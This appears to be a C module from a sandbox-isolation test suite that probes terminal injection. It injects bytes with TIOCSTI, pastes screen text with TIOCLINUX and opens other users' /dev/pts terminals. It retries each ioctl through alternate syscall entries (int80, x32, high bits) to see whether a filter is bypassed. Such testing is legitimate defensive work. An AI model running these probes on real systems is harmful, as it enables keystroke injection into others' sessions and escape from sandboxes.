// Terminals: putting bytes into a terminal's input queue, and reaching another terminal.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

#ifndef TIOCLINUX
#define TIOCLINUX 0x541C
#endif

// Ways to make the same ioctl: as it is, with a bit above the 32 that the kernel looks at, through the entry of 32-bit
// programs, and with both numbers that it has for x32 programs.
static const char* const ways[] = {"plain", "high", "int80", "x32", "x32-old"};
enum { WAYS = sizeof ways / sizeof *ways };

static long ioctl_by(const char* way, int fd, unsigned long request, void* argument) {
  if (strcmp(way, "plain") == 0) return syscall(SYS_ioctl, (long)fd, request, argument);
  if (strcmp(way, "high") == 0) return syscall(SYS_ioctl, (long)fd, request | 1UL << 32, argument);
  if (strcmp(way, "top") == 0) return syscall(SYS_ioctl, (long)fd, request | 1UL << 63, argument);
  if (strcmp(way, "int80") == 0) return call_i386(54, fd, (long)request, (long)argument, 0, 0);
  if (strcmp(way, "x32") == 0) return syscall(0x40000000 | 514, (long)fd, request, argument);
  if (strcmp(way, "x32-old") == 0) return syscall(0x40000000 | SYS_ioctl, (long)fd, request, argument);
  errno = EDOM;
  return -1;
}

// A number is a descriptor. Anything else is a path, and is opened.
static int descriptor_of(const char* word) {
  char* end;
  const long number = strtol(word, &end, 10);
  if (*end == '\0') return (int)number;
  return open(word, O_RDWR | O_NOCTTY);
}

// tiocsti WAY FD|PATH [TEXT]: types TEXT into the terminal.
static enum verdict tiocsti(char** arguments) {
  if (arguments[0] == NULL || arguments[1] == NULL) return not_tried("which way, and on what?");
  const char* text = arguments[2] != NULL ? arguments[2] : "Z";
  const int fd = descriptor_of(arguments[1]);
  if (fd == -1 && strcmp(arguments[1], "-1") != 0) return refused(errno, "open %s", arguments[1]);
  char* byte = low_memory(1);
  for (; *text != '\0'; text++) {
    *byte = *text;
    if (ioctl_by(arguments[0], fd, TIOCSTI, byte) == -1) {
      return refused(errno, "TIOCSTI %s on %s", arguments[0], arguments[1]);
    }
  }
  return succeeded("TIOCSTI %s on %s", arguments[0], arguments[1]);
}

// tioclinux WAY FD|PATH SUBCODE: 2 selects text of the screen, 3 pastes it into the input queue, 6 only queries.
static enum verdict tioclinux(char** arguments) {
  if (arguments[0] == NULL || arguments[1] == NULL || arguments[2] == NULL) return not_tried("three arguments");
  const int fd = descriptor_of(arguments[1]);
  if (fd == -1 && strcmp(arguments[1], "-1") != 0) return refused(errno, "open %s", arguments[1]);
  // A subcode, then columns, rows and kind of a selection: the first cell.
  char* data = low_memory(16);
  data[0] = (char)atoi(arguments[2]);
  data[1] = data[3] = data[5] = data[7] = 1;
  if (ioctl_by(arguments[0], fd, TIOCLINUX, data) == -1)
    return refused(errno, "TIOCLINUX %s %s on %s", arguments[0], arguments[2], arguments[1]);
  return succeeded("TIOCLINUX %s %s on %s", arguments[0], arguments[2], arguments[1]);
}

// request WAY FD NUMBER: makes any ioctl with a bad pointer.
static enum verdict request(char** arguments) {
  if (arguments[0] == NULL || arguments[1] == NULL || arguments[2] == NULL) return not_tried("three arguments");
  void* bad = (void*)8;
  return judge_call(ioctl_by(arguments[0], atoi(arguments[1]), strtoul(arguments[2], NULL, 0), bad), arguments[2]);
}

// Tries every way on every descriptor that might be a terminal, and reports the first that works.
static enum verdict tiocsti_anywhere(char** arguments) {
  (void)arguments;
  const int fds[] = {0, 1, 2, open("/dev/tty", O_RDWR | O_NOCTTY)};
  char* byte = low_memory(1);
  *byte = 'Z';
  int terminals = 0, error = EPERM;
  for (size_t i = 0; i < sizeof fds / sizeof *fds; i++) {
    if (!isatty(fds[i])) continue;
    terminals++;
    for (int way = 0; way < WAYS; way++) {
      if (ioctl_by(ways[way], fds[i], TIOCSTI, byte) != -1) return succeeded("TIOCSTI %s on %d", ways[way], fds[i]);
      if (way == 0) error = errno;
    }
  }
  if (terminals == 0) return not_tried("no terminal");
  return refused(error, "TIOCSTI");
}

// A filter that knows the request refuses it even on a bad descriptor, for which the kernel itself answers EBADF.
static enum verdict tiocsti_reaches_the_kernel(char** arguments) {
  (void)arguments;
  for (int way = 0; way < WAYS; way++) {
    if (ioctl_by(ways[way], -1, TIOCSTI, NULL) == -1 && errno == EBADF)
      return succeeded("TIOCSTI %s, EBADF", ways[way]);
  }
  return refused(EPERM, "TIOCSTI");
}

static enum verdict tioclinux_reaches_the_kernel(char** arguments) {
  (void)arguments;
  for (int way = 0; way < WAYS; way++) {
    if (ioctl_by(ways[way], -1, TIOCLINUX, NULL) == -1 && errno == EBADF)
      return succeeded("TIOCLINUX %s, EBADF", ways[way]);
  }
  return refused(EPERM, "TIOCLINUX");
}

// Looks for terminals in /dev/pts that exist before this program makes one. They are others' terminals if the instance
// is the host's.
static enum verdict foreign_terminal(char** arguments) {
  (void)arguments;
  struct stat own = {0}, other;
  const int has_own = fstat(0, &own) == 0;
  int error = ENOENT;
  for (int number = 0; number < 64; number++) {
    char path[32];
    snprintf(path, sizeof path, "/dev/pts/%d", number);
    if (stat(path, &other) == -1) continue;
    if (has_own && other.st_dev == own.st_dev && other.st_rdev == own.st_rdev) continue;
    const int fd = open(path, O_RDWR | O_NOCTTY);
    if (fd != -1) return succeeded("opened %s", path);
    error = errno;
  }
  return refused(error, "terminals of others");
}

// open PATH: opens a terminal for reading and writing.
static enum verdict open_terminal(char** arguments) {
  if (arguments[0] == NULL) return not_tried("which?");
  return judge_result(open(arguments[0], O_RDWR | O_NOCTTY | O_NONBLOCK), arguments[0]);
}

const struct probe terminal_probes[] = {{"tiocsti", "WAY FD|PATH [TEXT]", tiocsti, 0},
                                        {"tioclinux", "WAY FD|PATH SUBCODE", tioclinux, 0},
                                        {"ioctl", "WAY FD NUMBER", request, 0},
                                        {"open", "PATH", open_terminal, 0},
                                        {"tiocsti-anywhere", "", tiocsti_anywhere, 1},
                                        {"tiocsti-kernel", "", tiocsti_reaches_the_kernel, 1},
                                        {"tioclinux-kernel", "", tioclinux_reaches_the_kernel, 1},
                                        {"foreign-terminal", "", foreign_terminal, 1},
                                        {NULL, NULL, NULL, 0}};
